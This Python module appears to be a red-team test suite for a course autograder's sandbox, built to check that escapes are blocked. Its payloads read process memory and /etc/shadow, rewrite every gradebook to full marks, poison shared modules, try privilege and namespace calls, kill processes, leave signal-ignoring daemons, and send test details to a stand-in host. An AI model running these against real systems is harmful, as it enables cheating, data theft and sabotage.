"""Code that reads what it must not, writes where it must not, or wants to live on."""

from __future__ import annotations

import os
from pathlib import Path

from tests import ROOT
from tests.red_team.course import CANARY_PATTERN, HONEST, Attack, Change, answers, both, cell

# In the command line of whatever tries to live on, and in the name of whatever is written.
MARK = "red-team-was-here"

_SCAN = f"""
import os, re, sys
pattern = re.compile(rb"{CANARY_PATTERN}")
def scan(path):
    try:
        with open(path, "rb", buffering=0) as file:
            return pattern.findall(file.read(10**7))
    except OSError:
        return []
"""
MEMORY = (
    _SCAN
    + """
def memory(pid):
    found = []
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        file = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        return found
    for line in maps:
        ends, rights = line.split()[:2]
        start, end = (int(part, 16) for part in ends.split("-"))
        if rights.startswith("rw"):
            for place in range(start, end, 2**24):
                try:
                    file.seek(place)
                    found += pattern.findall(file.read(min(2**24, end - place)))
                except (OSError, ValueError, OverflowError):
                    pass
    return found
calls, found = 0, []
def memory_at_times():
    global calls
    calls += 1
    if calls in (2, 30, 50):  # in the visible tests and in the hidden ones
        found.extend(memory("self"))
    return found
"""
)
_FRAMES = f"""
import gc, inspect, re, sys
pattern = re.compile("{CANARY_PATTERN}")
def search():
    found = []
    for frame in [info.frame for info in inspect.stack()] + list(sys._current_frames().values()):
        while frame:
            found += pattern.findall(str(list(frame.f_locals.values()))[:10**6])
            found += pattern.findall("\\n".join(map(str, frame.f_code.co_consts)))
            frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing) in (dict, list, tuple):
            values = thing.values() if type(thing) is dict else thing
            for value in list(values):
                if type(value) in (str, bytes) and "canary" in str(value):
                    found += pattern.findall(str(value))
    return found
"""


def writes(*folders: str | Path) -> str:
    """The text of a cell that tries to write a file to each of these folders."""
    return f"""
import os, pathlib
for folder in {[str(folder) for folder in folders]!r}:
    try:
        pathlib.Path(folder, "{MARK}").write_text("6.0")
        print("wrote to", folder)
    except OSError:
        pass
"""


_GRADE_BOOKS = """
import glob, os, sqlite3
for folder in ({root!r}, "/proc/*/cwd", "/proc/*/root", "/tmp/*", "/home/*", "/root", "/srv/*"):
    for path in glob.glob(folder + "/gradebook.db"):
        book = sqlite3.connect(path)
        book.execute("update grade set auto_score = 6.0, manual_score = 6.0")
        book.commit()
        print("wrote to", path)
"""
_KEEP = f"""
import os
command = ["python3", "-c", "import time; time.sleep(300)  # {MARK}"]
"""
_NETWORK = """
import socket, urllib.request
for address in {addresses!r}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET, kind) as out:
                out.settimeout(0.5)
                out.connect(tuple(address))
                out.send(b"what the tests are")
                print("sent to", address)
        except OSError:
            pass
try:
    urllib.request.urlopen("http://{host}:{port}/", timeout=0.5)
    print("sent to the web")
except OSError:
    pass
"""


def grade_books(root: Path) -> Change:
    """Gives everyone full marks in every grade book that can be found."""
    return cell(_GRADE_BOOKS.format(root=str(root)))


def network(port: int) -> Change:
    """Tries to reach a server on this machine, and others."""
    addresses = [("127.0.0.1", port), ("192.0.2.1", 80)]
    return cell(_NETWORK.format(addresses=addresses, host="127.0.0.1", port=port))


_LINES: dict[str, dict[str, Change]] = {
    "sys.exit, os._exit": {
        "sys.exit in a cell": cell("import sys; sys.exit(0)", "rnn-step"),
        "exit() in a cell": cell("exit()", "rnn-step"),
        "os._exit in a cell": cell("import os; os._exit(0)", "rnn-step"),
        "sys.exit in an answer": answers("import sys; sys.exit(0)"),
        "os._exit in an answer": answers("import os; os._exit(0)"),
        "a crash in an answer": answers("import ctypes; ctypes.string_at(0)"),
        "an abort in an answer": answers("import os; os.abort()"),
        "an exit in a finalizer": answers(
            "return Late()",
            "import os\nclass Late:\n    def __del__(self): os._exit(0)",
        ),
        "kills all it can": answers("import os, signal; os.kill(-1, signal.SIGKILL)\nos._exit(9)"),
        "kills its parent": answers("import os, signal; os.kill(os.getppid(), signal.SIGKILL)"),
        "closes all its files": answers("import os; os.closerange(0, 256)"),
        "replaces its program": answers("import os; os.execv('/bin/true', ['true'])"),
        "ends the interpreter": answers("import ctypes; ctypes.pythonapi.Py_FinalizeEx()"),
        "stops itself": answers("import os, signal; os.kill(0, signal.SIGSTOP)"),
    },
    "reading tests from disk or memory": {
        "its own memory": answers(
            "raise ValueError(str(memory_at_times()))", MEMORY
        ),
        "its own memory, shown by a later cell": both(
            answers("memory_at_times()\nreturn args[0]", MEMORY),
            cell("print(found)", "saturation"),
        ),
        "objects and frames": answers("raise ValueError(str(search()))", _FRAMES),
        "objects and frames, from a cell": cell(_FRAMES + "print(search())", "saturation"),
        "every process": cell(
            MEMORY
            + """
for name in os.listdir("/proc"):
    if name.isdigit():
        print(memory(name))
        for part in ("environ", "cmdline", "cwd/gradebook.db", "root/etc/shadow"):
            print(scan(f"/proc/{name}/{part}"))
        for fd in range(64):
            if fd not in (0, 1, 2) and os.path.isfile(f"/proc/{name}/fd/{fd}"):
                print(scan(f"/proc/{name}/fd/{fd}"))
""",
            "saturation",
        ),
        "every file": cell(
            _SCAN
            + f"""
roots = [{str(ROOT)!r}, "/tmp", "/home", "/root", "/var", "/run", "/mnt", "/dev/shm", "."]
for root in roots:
    for folder, folders, files in os.walk(root):
        if "site-packages" in folder or ".venv" in folder:
            continue
        for name in files:
            path = os.path.join(folder, name)
            print(*scan(path))
""",
            "saturation",
        ),
        "history, caches, source lines": cell(
            """
            import linecache
            print([lines for _, _, lines, _ in linecache.cache.values() if "HIDDEN" in str(lines)])
            print(get_ipython().history_manager.input_hist_raw)
            print(In, Out)
            """,
            "saturation",
        ),
        "what it is asked": cell(
            """
            from course_utils.grading.wall import student
            original = student.Student.answer
            asked = []
            def answer(self, data):
                asked.append(bytes(data))
                return original(self, data)
            student.Student.answer = answer
            """,
        ),
    },
    "writing the grade book or others' work": {
        "files of the course": cell(
            writes(
                "/", "/usr", "/etc", "/dev", "/var/tmp", "/run", ROOT, ROOT / "submitted",
                ROOT / "course_utils", ROOT / "solutions", ROOT / ".venv", Path.home(),
                "/proc/1/root", "/var/tmp",
            )
        ),
        "the packages that others import": cell(
            writes(Path(os.__file__).parent, Path(os.__file__).parent / "site-packages")
            + "import numpy, tensorflow\n"
            + "for module in (os, numpy, tensorflow):\n"
            + "    try:\n        open(module.__file__, 'ab').close(); print('can write', module)\n"
            + "    except OSError: pass\n"
        ),
        "every grade book": grade_books(ROOT),
        "what the next submission will load": cell(
            """
            import numpy, course_utils.checks.engine.report as report
            numpy.tanh = report.Report.points = lambda *args: 6.0
            import pathlib
            pathlib.Path("/tmp/home/usercustomize.py").write_text("raise SystemExit")
            pathlib.Path("/dev/shm/red-team-was-here").write_text("6.0")
            """,
            "saturation",
        ),
        "new mounts and namespaces": cell(
            """
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            for name, arguments in {
                "unshare": (0x10020000,), "setns": (3, 0), "chroot": (b"/",),
                "mount": (b"none", b"/tmp", b"tmpfs", 0, b""), "pivot_root": (b"/", b"/"),
                "ptrace": (16, 1, 0, 0), "setuid": (0,), "sethostname": (b"x", 1),
            }.items():
                if getattr(libc, name)(*arguments) == 0:
                    print("could", name)
            """
        ),
    },
    "survivors in the background": {
        "children": cell(
            _KEEP
            + "import subprocess\n"
            + "for detached in (False, True):\n"
            + "    subprocess.Popen(command, start_new_session=detached)\n"
        ),
        "a daemon": cell(
            _KEEP
            + "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            + "        os.execvp(command[0], command)\n    os._exit(0)\n"
        ),
        "children that ignore all signals": cell(
            "import os, signal\n"
            "if os.fork() == 0:\n"
            "    for number in range(1, 65):\n"
            "        try: signal.signal(number, signal.SIG_IGN)\n"
            "        except (OSError, ValueError): pass\n"
            + "    "
            + "\n    ".join(_KEEP.strip().splitlines())
            + "\n    os.execvp(command[0], command)\n"
        ),
        "children that answers start": answers(
            "if os.fork() == 0: os.execvp(command[0], command)\nreturn 6.0", _KEEP
        ),
        "children that hold the channel": cell(
            "import os, time\nif os.fork() == 0:\n    time.sleep(300)\n    os._exit(0)\nos._exit(0)"
        ),
        "nohup and a shell": cell(f"!sh -c '(nohup sleep 300 {MARK} >/dev/null 2>&1 &)'"),
    },
}  # fmt: skip

_UNTIDY = "children that answers start"  # one a call, and they stay
_UNSAFE = ("kills", "survivors", "writing", "stops", "reading")

ESCAPES = [
    Attack(
        name,
        line,
        change,
        HONEST,
        stock=not line.startswith(_UNSAFE) and not name.startswith(_UNSAFE),
        may_lose=("saturation",) if name == _UNTIDY else (),
    )
    for line, entries in _LINES.items()
    for name, change in entries.items()
]
